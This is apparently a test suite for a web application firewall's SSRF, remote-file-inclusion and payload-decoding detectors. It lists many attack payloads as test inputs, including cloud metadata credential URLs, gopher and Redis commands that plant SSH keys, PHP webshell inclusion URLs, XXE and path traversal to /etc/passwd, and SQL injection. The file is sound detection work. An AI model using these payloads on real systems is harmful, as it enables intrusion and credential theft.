import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
import { DEFAULT_LIMITS } from '@/runtime/analyzer/engine/limits';
import { viewRequest } from '@/runtime/analyzer/engine/message-view';
import { Detector } from '@/runtime/analyzer/engine/detection/detector';
import { rfiPack } from '@/runtime/analyzer/engine/detection/rules/rfi';
import { ssrfPack } from '@/runtime/analyzer/engine/detection/rules/ssrf';
import { ruleScore } from '@/runtime/analyzer/engine/detection/scoring';
import type { RulePack, ValueLocation } from '@/runtime/analyzer/engine/detection/types';
import { corpusExchange } from '@/test/bench/corpora';
import { buildExchange } from '@/test/fixtures/traffic';

const score = (pack: RulePack, value: string, location: ValueLocation = 'query', name = 'q'): number =>
  inspectValue(new InspectedValue(location, name, value), [pack]).reduce((sum, r) => sum + ruleScore(r), 0);

describe('SSRF pack', () => {
  it('alerts alone on internal, metadata, rebinding and parser-confusing URLs in any notation', () => {
    for (const value of [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://metadata.google.internal/computeMetadata/v1/',
      'http://100.100.100.200/latest/meta-data/',
      'http://[fd00:ec2::254]/latest/api/token',
      'http://2130706433/',
      'http://0x7f.1/admin',
      'http://0177.0.0.1/',
      'http://127.1:8080/',
      'http://0/',
      'http://[::ffff:127.0.0.1]/',
      'http://[0:0:0:0:0:ffff:7f00:1]/',
      'https://example.com@127.0.0.1',
      'http://localtest.me/',
      'http://10.0.0.5:6379/',
      'gopher://127.0.0.1:6379/_SET',
      'dict://localhost:11211/stat',
      'http://127.0.0.1.nip.io/',
      'http://1.1.1.1&@2.2.2.2#@3.3.3.3/',
      'http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/',
      'http%3A%2F%2F127.0.0.1%2Fadmin',
      // a request library's unix-socket form, a Rancher metadata name, Consul and Kubernetes service names
      'http://unix:/var/run/docker.sock:/containers/json',
      'http://rancher-metadata/latest/self/container',
      'http://vault.service.consul:8200/v1/secret/data/prod',
      'http://redis.default.svc:6379/',
      // out-of-band callback hosts: blind probes
      'http://p0o9i8u7y6.oastify.com/',
      'https://abc123.burpcollaborator.net/x',
      'http://c9x8.interact.sh',
    ])
      expect({ value, score: score(ssrfPack, value) >= 5 }).toEqual({ value, score: true });
    for (const value of ['https://webhook.site/0b7c3f7e-6d1a-4c55-9a8e-1f2d3c4b5a69', 'https://hooks.slack.com/services/T000/B000/XXXX'])
      expect({ value, score: score(ssrfPack, value) }).toEqual({ value, score: 0 });
  });

  it("reads an `@` that decoding adds to a connection URL's password as the password, and one in a fetched URL as confusion", () => {
    const rules = (value: string) => inspectValue(new InspectedValue('body_form', 'issue[body]', value), [ssrfPack]).map((r) => r.id);
    // `%40` is how a password holding `@` is written in a connection string
    for (const value of ['DATABASE_URL=postgres://ledger:p%40ss@db.example.com:5432/ledger', 'mongodb+srv://app:s3%40cret@cluster0.example.net/shop'])
      expect({ value, rules: rules(value) }).toEqual({ value, rules: expect.not.arrayContaining([500107]) });
    for (const value of ['http://good.example.com%2540evil.example.net@127.0.0.1/', 'https://a@b@169.254.169.254/'])
      expect({ value, rules: rules(value) }).toEqual({ value, rules: expect.arrayContaining([500107]) });
  });

  it('reads scheme-relative URLs, hosts past a `#@` or `?@`, and IPv4-translated IPv6 hosts', () => {
    for (const value of [
      '//127.0.0.1/admin',
      '//localhost:8080/',
      'http://example.com#@127.0.0.1/',
      'http://example.com?@169.254.169.254/',
      'http://[::ffff:0:127.0.0.1]/',
    ])
      expect({ value, score: score(ssrfPack, value) >= 5 }).toEqual({ value, score: true });
    for (const value of ['//cdn.example.com/app.js', '//example.com/#@section', 'https://example.com/?q=a@b.com', 'http://[2001:db8::ffff:0:1]/'])
      expect({ value, score: score(ssrfPack, value) }).toEqual({ value, score: 0 });
  });

  it('finds a metadata host given bare, its paths alone, and a Host header or absolute target naming it', () => {
    for (const value of ['169.254.169.254', 'metadata.google.internal', '2852039166', '100.100.100.200', '/latest/meta-data/iam/']) {
      expect({ value, score: score(ssrfPack, value) }).toEqual({ value, score: 5 });
    }
    for (const value of ['instance-data', '10.0.0.5', 'metadata', 'api.example.com', '2852039167'])
      expect({ value, score: score(ssrfPack, value) }).toEqual({ value, score: 0 });
    const detector = new Detector({ level: 1 });
    const metadataHits = (target: string, host: string) =>
      detector
        .detect(viewRequest(buildExchange({ method: 'GET', target, host }), DEFAULT_LIMITS))
        .hits.filter((h) => h.rule.id === 500102)
        .map((h) => h.parameter);
    expect(metadataHits('/', '169.254.169.254')).toEqual(['Host']);
    expect(metadataHits('http://169.254.169.254/', 'shop.example.com')).toContain(':target');
    expect(metadataHits('/', 'shop.example.com')).toEqual([]);
  });

  it('finds a callback host given bare: a host parameter, the Host or X-Forwarded-Host a reset link is built from', () => {
    expect(score(ssrfPack, 'abc.burpcollaborator.net', 'query', 'host')).toBe(5);
    expect(score(ssrfPack, 'p0o9.oastify.com', 'header', 'X-Forwarded-Host')).toBe(5);
    expect(score(ssrfPack, 'oast.example.com', 'query', 'host')).toBe(0);
    const detector = new Detector({ level: 1 });
    const hostHits = (host: string) =>
      detector
        .detect(viewRequest(buildExchange({ method: 'POST', target: '/forgot-password', host }), DEFAULT_LIMITS))
        .hits.filter((h) => h.rule.id === 500106)
        .map((h) => h.parameter);
    expect(hostHits('p0o9i8.oastify.com')).toEqual(['Host']);
    expect(hostHits('shop.example.com')).toEqual([]);
  });

  it('reads an absolute target or a CONNECT tunnel to an internal address as a fetch from inside, not one to a public host', () => {
    const detector = new Detector({ level: 1 });
    const targetHits = (method: string, target: string) =>
      detector
        .detect(viewRequest(buildExchange({ method, target, host: 'api.example.io' }), DEFAULT_LIMITS))
        .hits.filter((h) => h.rule.id === 500103)
        .map((h) => h.parameter);
    expect(targetHits('GET', 'http://10.0.12.5:8500/v1/agent/self')).toEqual([':target']);
    expect(targetHits('CONNECT', '10.0.0.7:22')).toEqual([':target']);
    expect(targetHits('CONNECT', '[::1]:6379')).toEqual([':target']);
    expect(targetHits('GET', 'http://www.example.org/index.html')).toEqual([]);
    expect(targetHits('CONNECT', 'www.example.org:443')).toEqual([]);
  });

  it('finds a URL pasted into a URL path', () => {
    expect(score(ssrfPack, '/blog/post/http://127.0.0.1:80/details', 'path', '')).toBeGreaterThanOrEqual(5);
  });

  it('stays quiet on public URLs and on a developer origin in Referer/Origin', () => {
    expect(score(ssrfPack, 'https://www.example.com/page?x=1')).toBe(0);
    expect(score(ssrfPack, 'https://8.8.8.8/dns-query')).toBe(0);
    expect(score(ssrfPack, 'http://localhost:3000/checkout', 'header', 'Referer')).toBe(0);
    expect(score(ssrfPack, 'http://192.168.1.20:8080/', 'header', 'Origin')).toBe(0);
    expect(score(ssrfPack, 'https://intranet.example-corp.local/Search.aspx', 'header', 'Referer')).toBe(0);
    expect(score(ssrfPack, 'https://intranet.example-corp.local/Search.aspx', 'query', 'url')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'https://orders.northwind.internal/Orders/List.aspx', 'header', 'Referer')).toBe(0);
    expect(score(ssrfPack, 'https://backoffice.northwind.internal/app/', 'header', 'X-GWT-Module-Base')).toBe(0);
    expect(score(ssrfPack, 'https://orders.northwind.internal/Orders/List.aspx', 'query', 'url')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://metadata.google.internal/computeMetadata/v1/', 'header', 'Referer')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, '0://1/2/3', 'body_graphql', 'path')).toBe(0);
  });

  it('finds an internal address written in hex or octal given bare, as a host parameter or a path segment holds it', () => {
    for (const value of ['0x7f.0x0.0x0.0x1', '0x7f.0x0.0x0.0x1:8080', '0177.0.0.1', '0x7f000001', '0xa9fea9fe'])
      expect({ value, alerts: score(ssrfPack, value, 'query', 'host') >= 5 }).toEqual({ value, alerts: true });
    for (const value of ['0x7f.0x0.0x0.0x1:8080', '0177.0.0.1']) expect(score(ssrfPack, value, 'path', '')).toBeGreaterThanOrEqual(5);
    // Numbers, short hex codes, dates and versions are values, not addresses.
    for (const value of ['2130706433', '0x1a2b', '10.01.20', '1.0.3', '02134', '10.5', '010.020.030.040'])
      expect({ value, score: score(ssrfPack, value, 'query', 'host') }).toEqual({ value, score: 0 });
  });

  it('reads a Content-Security-Policy as the hosts a page may load from, never fetched', () => {
    const policy = "default-src 'self'; connect-src 'self' ws://localhost:* http://10.0.0.5:8080; img-src data: blob:";
    expect(score(ssrfPack, policy, 'body_json', 'csp-report.original-policy')).toBe(0);
    expect(score(ssrfPack, policy, 'body_form', 'security_headers[csp]')).toBe(0);
    // A URL a policy only follows is read as any value is (a value opening with a directive is no URL a client fetches).
    expect(score(ssrfPack, 'http://169.254.169.254/latest/meta-data/; connect-src self', 'query', 'url')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://localhost:8080/admin', 'body_json', 'csp-report.blocked-uri')).toBeGreaterThanOrEqual(5);
  });

  it('still counts what no browser sends in Referer', () => {
    expect(score(ssrfPack, 'http://example.com@127.0.0.1/', 'header', 'Referer')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://169.254.169.254/', 'header', 'Referer')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://0x7f000001/', 'header', 'Referer')).toBeGreaterThanOrEqual(5);
    // A browser writes the URL itself; only a tool percent-encodes the whole Referer.
    expect(score(ssrfPack, 'https%3A%2F%2F127.0.0.1%2Fexample.com', 'header', 'Referer')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http%3A%2F%2Flocalhost%3A3000%2F', 'header', 'Origin')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://localhost:3000/search?q=a%2Fb', 'header', 'Referer')).toBe(0);
  });
});

describe('SSRF pack: network ranges', () => {
  it("reads a metadata address with a prefix length as a range (a network policy's exception), not a target", () => {
    expect(score(ssrfPack, '169.254.169.254/32', 'body_json', 'spec.egress[].to[].ipBlock.except[]')).toBe(0);
    expect(score(ssrfPack, '169.254.169.254/16, 10.0.0.0/8', 'body_form', 'deny')).toBe(0);
    expect(score(ssrfPack, '169.254.169.254/latest/meta-data/', 'query', 'path')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://169.254.169.254/32', 'query', 'url')).toBeGreaterThanOrEqual(5);
  });
});

describe('SSRF pack: login redirects', () => {
  it('takes a loopback redirect_uri for a native app login (RFC 8252), in a query or a registration', () => {
    expect(score(ssrfPack, 'http://localhost:8085/', 'query', 'redirect_uri')).toBe(0);
    expect(score(ssrfPack, 'http://127.0.0.1:53682/callback', 'body_json', 'redirect_uris[]')).toBe(0);
    expect(score(ssrfPack, 'http://[::1]:3000/cb', 'body_form', 'post_logout_redirect_uri')).toBe(0);
  });

  it('takes an intranet page where a sign-in or form sends the browser next (Source, wreply, wctx, returnUrl)', () => {
    expect(score(ssrfPack, 'https://sp2016.corp.acme.local/sites/Projects/Lists/Risks/AllItems.aspx', 'query', 'Source')).toBe(0);
    expect(score(ssrfPack, 'https://sp2016.corp.acme.local/_trust/default.aspx', 'query', 'wreply')).toBe(0);
    expect(score(ssrfPack, 'https://portal.example.internal/home', 'body_form', 'returnUrl')).toBe(0);
    // Not an address, loopback or a metadata host there, nor an intranet name in a parameter a server fetches
    expect(score(ssrfPack, 'http://10.0.0.5/admin', 'query', 'Source')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://169.254.169.254/latest/meta-data/', 'query', 'wreply')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'https://sp2016.corp.acme.local/_api/web', 'query', 'url')).toBeGreaterThanOrEqual(5);
  });

  it('still counts a loopback URL in other parameters, and private, metadata or obfuscated hosts there', () => {
    expect(score(ssrfPack, 'http://127.0.0.1:8080/admin', 'query', 'url')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://10.0.0.5/', 'query', 'redirect_uri')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://169.254.169.254/latest/meta-data/', 'query', 'redirect_uri')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'http://0x7f000001/', 'query', 'redirect_uri')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'x http://localhost/', 'query', 'redirect_uri')).toBeGreaterThanOrEqual(5);
  });
});

describe('SSRF pack: the metadata service named in text', () => {
  it('counts as a target (a path, a port or nothing after it), not as a subject of a sentence', () => {
    expect(score(ssrfPack, '169.254.169.254/latest/meta-data/')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, 'curl 169.254.169.254')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, '[169.254.169.254]')).toBeGreaterThanOrEqual(5);
    expect(score(ssrfPack, '169.254.169.254 metadata service docs')).toBe(0);
    expect(score(ssrfPack, 'is metadata.google.internal reachable from GKE')).toBe(0);
  });
});

describe('SSRF pack: documents', () => {
  it.each([
    ['a Dockerfile', 'FROM node:20-alpine\nRUN npm ci --registry http://10.0.4.12:4873/\nHEALTHCHECK CMD wget -qO- http://localhost:3000/health || exit 1'],
    [
      'a wiki page on local setup',
      '# Local setup\nStart the stack with docker compose up.\nThe API then answers on http://127.0.0.1:8080/ and Postgres on postgres://localhost:5432/app.',
    ],
  ])('leaves the internal URLs %s names', (_what, text) => {
    expect(score(ssrfPack, text, 'body_json', 'content')).toBe(0);
  });

  it.each([
    [
      'a repository configuration whose url is a cluster service',
      'name: internal\nurl: http://vault.vault.svc.cluster.local:8200/v1/secret/data/prod\npassCredentialsAll: true',
    ],
    ['the metadata service in a config file', 'name: probe\nimage: alpine\nhealth: http://169.254.169.254/latest/meta-data/iam/'],
    ['gopher in a notes page', 'notes for the cache\nthe old path was this one\ngopher://127.0.0.1:6379/_FLUSHALL'],
    ['an obfuscated loopback in a config file', 'name: probe\nimage: alpine\nping http://0x7f000001:8080/admin'],
  ])('still reads %s', (_what, text) => {
    expect(score(ssrfPack, text, 'body_json', 'content')).toBeGreaterThanOrEqual(5);
  });
});

describe('RFI pack', () => {
  it('alerts alone on inclusion forms', () => {
    for (const [value, name] of [
      ['http://evil.example/shell.txt?', 'q'],
      ['http://evil.example/shell.txt%00', 'q'],
      ['https://evil.example/x??', 'q'],
      ['ftp://198.51.100.7/c99.txt?', 'q'],
      ['/index.php?mosConfig_absolute_path=http://evil.example/x.txt?', 'q'],
      ['data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+', 'q'],
      ['data:text/plain,<?php phpinfo(); ?>', 'q'],
      ['php://input', 'q'],
      ['expect://id', 'q'],
      ['\\\\198.51.100.7\\share\\shell.php', 'q'],
      // Windows' WebDAV redirector: the share over HTTPS, on a port.
      ['\\\\evil-dav.example.net@SSL\\DavWWWRoot\\shell.php', 'page'],
      ['\\\\evil-dav.example.net@SSL@8443\\DavWWWRoot\\shell.php', 'page'],
      // A server script on a share, internal or not: what an include loads over SMB.
      ['\\\\10.10.14.7\\share\\shell.php', 'page'],
      // An address whose first digits read as an octal escape once decoded.
      ['\\\\45.9.148.99\\share\\shell.php', 'template'],
      ['http://evil.example/shell.txt', 'include_path'],
      ['/core/admin/showcat.php?absoluteurlhttp://evil.example/r57.txt?', 'q'],
      // A remote server-side template (Velocity, FreeMarker) for a template parameter.
      ['ftp://198.51.100.7:8021/cmd.vm', 'macro.params._template'],
      ['https://evil.example/x.ftl', 'template'],
      // An include-path parameter's URL cut before the suffix the script appends, whatever the file.
      ['https://paste.example/raw/Xk3r9PqL?', 'include'],
      ['http://203.0.113.131/payloads/rev.php?', 'file'],
      // A second stage on the attacker's bare address: a WAR to deploy, an SVG for ImageMagick in a file parameter.
      ['http://94.232.41.105/jexws4.war', 'arg0'],
      ['ftp://94.232.41.105:2121/poc.svg', 'mla_stream_file'],
      // A network-path reference: a UNC path to PHP on Windows, a URL to what resolves it against a scheme.
      ['//evil.example.net/shell.txt?', 'page'],
      ['//45.77.12.9/t/header.php', 'tpl'],
    ] as const)
      expect({ value, alerts: score(rfiPack, value, 'query', name) >= 5 }).toEqual({ value, alerts: true });
  });

  it('weaker forms add up at higher levels only', () => {
    expect(score(rfiPack, 'http://evil.example/shell.txt')).toBe(4);
    expect(score(rfiPack, '/index.php?template=http://evil.example/')).toBe(4);
    expect(score(rfiPack, '/index.php?page=http://evil.example/')).toBe(0);
    // a payload file on a bare public address, alone (level 2); pages and images there, or private addresses, are no sign
    expect(score(rfiPack, 'http://94.232.41.105:8000/rceschema.xml', 'body_form', 'DATAFILE_LOCATION')).toBe(4);
    expect(score(rfiPack, 'http://80.178.112.171/images/banner.jpg', 'query', 'img')).toBe(0);
    expect(score(rfiPack, 'http://10.20.0.5/schema.xml', 'query', 'src')).toBe(0);
    // A protocol-relative page or image is an everyday link.
    expect(score(rfiPack, '//cdn.example.com/a/b.png', 'query', 'img')).toBe(0);
    expect(score(rfiPack, '//cdn.example.com/a/b.html', 'query', 'tpl')).toBeLessThan(5);
  });

  it('reads an include-named parameter loading from a bare public address as an inclusion, whatever the file', () => {
    const ids = inspectValue(new InspectedValue('query', 'template', '//203.0.113.66/t'), [rfiPack]).map((r) => r.id);
    expect(ids.sort()).toEqual([310107, 310111]);
    expect(score(rfiPack, 'http://198.51.100.4:8080/x', 'query', 'lang')).toBeGreaterThanOrEqual(5);
    // a private address, a host name, or a parameter not named like an include path: no such sign
    expect(score(rfiPack, 'http://10.0.0.5/t', 'query', 'template')).toBeLessThan(5);
    expect(score(rfiPack, 'https://cdn.example.com/themes/dark', 'query', 'theme')).toBeLessThan(5);
    expect(score(rfiPack, 'http://203.0.113.66/t', 'query', 'q')).toBe(0);
  });

  it("reads a paste site's raw text as a parameter's whole value, not its page, a mention or a code host's raw file", () => {
    expect(score(rfiPack, 'https://pastebin.com/raw/Xk3vQ9aP', 'query', 'page')).toBeGreaterThanOrEqual(5);
    expect(score(rfiPack, 'http://termbin.com/k2x9', 'body_form', 'url')).toBeGreaterThanOrEqual(5);
    expect(score(rfiPack, 'https://pastebin.com/Xk3vQ9aP', 'query', 'page')).toBe(0);
    expect(score(rfiPack, 'log at https://pastebin.com/raw/Xk3vQ9aP', 'body_form', 'comment')).toBe(0);
    expect(score(rfiPack, 'https://raw.githubusercontent.com/acme/api/main/openapi.yaml', 'query', 'url')).toBe(0);
    expect(score(rfiPack, 'https://pastebin.com/raw/Xk3vQ9aP', 'header', 'Referer')).toBe(0);
  });

  it('reads a scheme whose letters alternate case as a filter evasion, with an include-named parameter alone', () => {
    expect(score(rfiPack, 'hTtP://f6.oast.example/t', 'query', 'theme')).toBeGreaterThanOrEqual(5);
    expect(score(rfiPack, 'HtTpS://f6.oast.example/t', 'query', 'q')).toBe(4);
    // as people and phones write them: lower case, upper case, capitalised
    for (const scheme of ['http', 'HTTP', 'Http', 'Https'])
      expect({ scheme, score: score(rfiPack, `${scheme}://www.example.com/about`, 'query', 'theme') }).toEqual({ scheme, score: 1.6 });
    // in Referer the page's own URL is not a target
    expect(score(rfiPack, 'hTtP://shop.example.com/', 'header', 'Referer')).toBe(0);
  });

  it('does not alert on everyday URL-valued parameters', () => {
    for (const [value, location, name] of [
      ['https://www.example.com/product.php?id=3', 'query', 'dl'],
      ['https://home.example.com/?', 'query', 'continue'],
      ['https://cdn.example.net/img/1x1.png', 'query', 'google_redir'],
      ['https://www.example.nl/winkelmandje', 'query', 'pagepath'],
      ['https://static.example.net/app.3010468e.js', 'body_json', '[].body.sourceFile'],
      ['https://cdn.example.com/assets/app.js', 'body_json', 'csp-report.source-file'],
      ['https://cdn.example.com/ht/pixel.gif?', 'query', 'cb'],
      ['https://shop.example.com/index.php?', 'header', 'Referer'],
      ['https://example.com/login.php?next=https://example.com/account', 'query', 'url'],
      ['https://www.example.com/docs/page?', 'query', 'return_url'],
    ] as const)
      expect({ value, alerts: score(rfiPack, value, location, name) >= 5 }).toEqual({ value, alerts: false });
  });
});

describe('placements the packs rely on', () => {
  const detect = (url: string, headers: Record<string, string> = {}) =>
    new Detector().detect(viewRequest(corpusExchange({ id: 't', method: 'GET', url, headers, body: '', label: 'attack', class: 'x' }), DEFAULT_LIMITS));

  it('unwraps base64 whose padding was URL-encoded, in headers and in path segments', () => {
    const b64 = Buffer.from('../../../etc/passwd').toString('base64');
    expect(detect('/', { 'X-Api-Version': encodeURIComponent(b64) }).alert).toBe(true);
    expect(detect(`/download/${encodeURIComponent(b64)}/details`).alert).toBe(true);
    expect(detect(`/download/${encodeURIComponent(encodeURIComponent(b64))}/details`).alert).toBe(true);
  });

  it('unwraps the shortest base64 worth trying, padded to 16 characters', () => {
    expect(detect('/', { 'X-Api-Version': Buffer.from('/etc/passwd').toString('base64') }).alert).toBe(true);
    expect(detect(`/view?id=${encodeURIComponent(Buffer.from('etc/passwd').toString('base64'))}`).alert).toBe(true);
    expect(detect(`/view?id=${Buffer.from('hello world').toString('base64')}`).alert).toBe(false);
  });

  it("reads a data: URI's base64 content: an SVG with an external entity, not an image", () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    );
    expect(detect(`/avatar?src=${encodeURIComponent(`data:image/svg+xml;base64,${svg.toString('base64')}`)}`).alert).toBe(true);
    // Padded past what base64 values are unwrapped to, wrapped at 76 columns, with a spaced parameter
    const long = Buffer.concat([svg.subarray(0, svg.length - 6), Buffer.from('<rect width="1" height="1"/>'.repeat(300)), Buffer.from('</svg>')]).toString(
      'base64',
    );
    const wrapped = long.replace(/.{76}/g, '$&\n');
    expect(detect(`/avatar?src=${encodeURIComponent(`data:image/svg+xml; charset=utf-8;base64,${wrapped}`)}`).alert).toBe(true);
    const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex').toString('base64');
    expect(detect(`/avatar?src=${encodeURIComponent(`data:image/png;base64,${png}`)}`).alert).toBe(false);
  });

  it("reads a JSON document sent in a query parameter or header string by string: a break-out counts at a string's start", () => {
    const filter = '{"policyNo":"1 AND 1=CTXSYS.DRITHSX.SN(user,(SELECT banner FROM v$version WHERE rownum=1))"}';
    const sqlHit = (result: { hits: ReadonlyArray<{ rule: { id: number }; parameter: string }> }) =>
      result.hits.filter((h) => h.rule.id === 100102).map((h) => h.parameter);
    expect(sqlHit(detect(`/api/policies?q=${encodeURIComponent(filter)}`))).toEqual(['q.policyNo']);
    expect(sqlHit(detect('/api/policies', { 'X-Filter': filter }))).toEqual(['X-Filter.policyNo']);
    expect(detect(`/api/policies?q=${encodeURIComponent('{"policyNo":"1 AND 2 more","tags":["a","b"]}')}`).alert).toBe(false);
  });

  it('finds an encoded absolute path pasted into the URL path', () => {
    expect(detect('/search/%2Fvar%2Flog%2Fsamba/details').alert).toBe(true);
    expect(detect('/search/products/var/details').alert).toBe(false);
  });
});

describe('Redis commands in a request body', () => {
  const detector = new Detector();
  const ids = (body: string, type = 'text/plain') =>
    detector
      .detect(viewRequest(buildExchange({ method: 'POST', target: '/', requestHeaders: [['Content-Type', type]], requestBody: body }), DEFAULT_LIMITS))
      .hits.map((h) => h.rule.id);

  it('reports the file-writing, replication and module commands a cross-protocol request sends', () => {
    expect(ids('CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nSET x "\\n\\nssh-ed25519 AAAA root@kali\\n\\n"\r\nSAVE\r\n')).toContain(
      500108,
    );
    expect(ids('FLUSHALL\nSLAVEOF 203.0.113.9 6379\n')).toContain(500108);
    expect(ids('x=1\nMODULE LOAD ./exp.so\n', 'application/x-www-form-urlencoded')).toContain(500108);
  });

  it('leaves text that only talks about Redis alone', () => {
    expect(ids('Our cache runs Redis; we changed the config set by the operator and the module list.')).not.toContain(500108);
    expect(ids('{"note":"run CONFIG SET dir /data then restart"}', 'application/json')).not.toContain(500108);
  });
});
